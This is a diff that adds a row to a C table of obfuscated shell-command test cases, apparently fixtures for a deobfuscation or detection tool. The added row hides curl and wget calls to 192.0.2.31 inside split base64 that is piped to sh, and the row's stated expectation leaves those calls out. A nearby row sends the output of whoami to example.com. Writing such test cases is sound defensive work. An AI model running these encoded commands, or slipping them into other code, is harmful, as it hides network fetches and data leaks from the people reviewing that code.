@@ -38,6 +38,13 @@ static const struct row {
 			"aWQ.gL.XVu" } },
 	{ "reverse", "id;ls",
 		{ "sh", "-c", "echo $1$2|rev|sh", "x", "sl", ";di" } },
+	/* What it hides in turn stands before what the pieces are. */
+	{ "base64", "id;uname -a;who",
+		{ "bash", "-c", "echo $1$2|base64 -d|sh", "x",
+			"Y3VybCAtcyBodHRwOi8vMTkyLjAuMi4zMS9hOyBl"
+			"Y2hvIGFXUTdkVzVoYldV",
+			"Z0xXRTdkMmh2fGJhc2U2NCAtZHxzaDsgd2dldCBo"
+			"dHRwOi8vMTkyLjAuMi4zMS9i" } },
 	/* Variables before it. */
 	{ "base64", "curl http://example.com/$(whoami)",
 		{ "env", "P1=Y3VybCBodHRwOi8vZXhhbX",
